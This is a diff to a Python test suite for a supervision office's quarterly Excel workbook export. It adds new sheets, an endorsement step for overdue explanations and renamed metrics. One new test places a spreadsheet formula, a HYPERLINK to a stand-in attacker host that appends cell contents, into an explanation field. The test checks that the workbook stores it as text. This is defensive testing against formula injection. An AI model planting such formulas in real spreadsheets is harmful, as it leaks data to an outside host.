@@ -50,7 +50,12 @@ from accounts.choices import Classification, Role
 from supervision.choices import InstructionKind, ItemStatus, ReasonKind, Ruling
 from supervision.exchange.export import XLSX_CONTENT_TYPE
 from supervision.models import AuditEvent, Item, OverdueExplanation
-from supervision.services import overdue_explanation_rule, overdue_explanation_submit, overdue_explanations_open
+from supervision.services import (
+    overdue_explanation_endorse,
+    overdue_explanation_rule,
+    overdue_explanation_submit,
+    overdue_explanations_open,
+)
 from supervision.stats.quarterly import quarterly_review_workbook
 from tests.api_helpers import assert_error, client_for
 from tests.factories import UnitFactory, UserFactory, audit_mark, make_instruction, make_item, new_events
@@ -61,7 +66,7 @@ D = datetime.date
 NOW = datetime.datetime(2026, 11, 16, 10, 0, tzinfo=SHANGHAI)
 Q3 = {"quarter": "2026Q3"}
 URL = "/api/v1/stats/quarterly-workbook/"
-SHEETS = ["汇总", "单位排名", "按来源", "按领导", "月度趋势", "超期清单", "超期说明及认定"]
+SHEETS = ["口径说明", "汇总", "单位排名", "按来源", "按领导", "月度趋势", "超期清单", "超期说明及认定", "考核得分"]
 
 
 def at(month: int, day: int, hour: int = 10) -> datetime.datetime:
@@ -145,6 +150,8 @@ def build_ledger(w, clock) -> SimpleNamespace:
     overdue_explanation_submit(
         actor=w.edu_handler, explanation=explanation(L.r4, w.edu), reason_kind=ReasonKind.SUBJECTIVE, text="人员调整，推进不力"
     )
+    # The unit head signs a handler's explanation before the office rules on it (rule 14).
+    overdue_explanation_endorse(actor=w.edu_head, explanation=explanation(L.r4, w.edu))
     clock(at(8, 10))
     overdue_explanation_rule(
         actor=w.office, explanation=explanation(L.r4, w.edu), ruling=Ruling.ACCOUNTABILITY, comment="主观原因，严格问责"
@@ -157,6 +164,7 @@ def build_ledger(w, clock) -> SimpleNamespace:
     overdue_explanation_submit(
         actor=w.env_handler, explanation=explanation(L.r3, w.env), reason_kind=ReasonKind.OBJECTIVE, text="台风影响停工"
     )
+    overdue_explanation_endorse(actor=w.env_head, explanation=explanation(L.r3, w.env))
     clock(at(9, 29))
     overdue_explanation_rule(actor=w.office, explanation=explanation(L.r3, w.env), ruling=Ruling.EXEMPTION, comment="情况属实")
     clock(NOW)
@@ -231,15 +239,24 @@ API_SUMMARY = {
     "应办结": "due",
     "已办结": "closed",
     "按原定时限按时办结": "closed_on_time_original",
-    "按延期后时限按时办结": "closed_on_time_extended",
     "落实率": "implementation_rate",
     "按原定时限按时办结率": "on_time_rate_original",
-    "按延期后时限按时办结率": "on_time_rate_extended",
+    "应办结（按现时限，参考）": "due_current",
+    "按现时限按时办结（参考）": "closed_on_time_extended",
+    "落实率（按现时限，参考）": "implementation_rate_current",
+    "按现时限按时办结率（参考）": "on_time_rate_extended",
     "超期（当前）": "overdue",
+    "按原定时限超期（当前）": "overdue_original",
     "在办有时限（当前）": "open_with_deadline",
     "超期率（当前）": "overdue_rate",
     "统计期内销号": "closed_in_period",
     "平均办结工作日": "average_workdays_to_close",
+    "反弹（统计期内回访未通过）": "relapsed",
+    "已交办（统计期内）": "assigned",
+    "办结率": "completion_rate",
+    "在办率": "in_progress_rate",
+    "停滞": "stale",
+    "停滞率": "stale_rate",
     "回访后重新办理": "reopened",
 }
 FIGURES = [
@@ -310,7 +327,7 @@ def test_figures_equal_the_stats_api_and_the_hand_count(world, ledger):
     values = summary_values(wb["汇总"])
     # Hand count: due in Q3 R1 R2 R3 R4 R5; closed R1 R2; on time R1 (original), R1 R2 (extended).
     assert (values["事项总数"], values["应办结"], values["已办结"], values["落实率"]) == (8, 5, 2, 0.4)
-    assert (values["按原定时限按时办结率"], values["按延期后时限按时办结率"]) == (0.2, 0.4)
+    assert (values["按原定时限按时办结率"], values["按现时限按时办结率（参考）"]) == (0.2, 0.4)
     # Overdue now R3 R4 R5 R6 of five open with a deadline (+ R7).
     assert (values["超期（当前）"], values["在办有时限（当前）"], values["超期率（当前）"]) == (4, 5, 0.8)
     assert values["平均办结工作日"] == 23.5  # (28 + 19) / 2
@@ -447,6 +464,21 @@ def test_explanation_rows_and_rulings(world, ledger):
     assert [(r["台账编号"], r["责任单位"], r["认定结果"]) for r in rows] == [(ledger.r6.code, "黄庄乡农业服务中心", "待认定")]
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+def test_a_formula_in_an_explanation_lands_as_text(world, ledger):
+    """Issue 11 finding 3: what a unit typed never becomes a live formula in the workbook."""
+    OverdueExplanation.objects.filter(item=ledger.r4, unit=world.edu).update(text=FORMULA, ruling_comment="+1-2")
+    wb = workbook(world.office, Q3)
+    ws = wb["超期说明及认定"]
+    row, column = find(ws, FORMULA)
+    cell = ws.cell(row=row, column=column)
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert ws.cell(row=row, column=find(ws, "+1-2")[1]).quotePrefix
+    assert not [c.coordinate for sheet in wb for line in sheet.iter_rows() for c in line if c.data_type == "f"]
+
+
 def test_an_approved_export_lists_the_classified_rows(world, ledger, monkeypatch):
     asked = []
 
@@ -521,6 +553,12 @@ def test_filters_narrow_every_sheet(world, ledger):
     assert [r["台账编号"] for r in table(wb["超期清单"], "序号")[0]] == [ledger.r4.code]
     assert [r[0] for r in unit_rows(wb["单位排名"])] == ["县教育局", "县环保局"]  # by name
     assert "来源类型：会议议定事项" in wb["汇总"]["A2"].value
+    # The first sheet states the rules that keep the figures honest, as the API and the dashboard do.
+    from supervision.stats.definitions import PRINCIPLES
+
+    first = [row for row in wb["口径说明"].iter_rows(values_only=True)]
+    assert [r[0] for r in first if r[0] in dict(PRINCIPLES)] == [title for title, _text in PRINCIPLES]
+    assert all((title, text) in {(r[0], r[1]) for r in first} for title, text in PRINCIPLES)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -531,6 +569,7 @@ def test_charts_print_setup_and_formats(world, ledger):
     wb = workbook(world.office, Q3)
     charts = {ws.title: [type(c) for c in ws._charts] for ws in wb.worksheets}
     assert charts == {
+        "口径说明": [],
         "汇总": [BarChart, PieChart],
         "单位排名": [BarChart],
         "按来源": [BarChart],
@@ -538,6 +577,7 @@ def test_charts_print_setup_and_formats(world, ledger):
         "月度趋势": [LineChart],
         "超期清单": [],
         "超期说明及认定": [],
+        "考核得分": [],
     }
     for ws in wb.worksheets:
         assert ws.page_setup.orientation == "landscape", ws.title
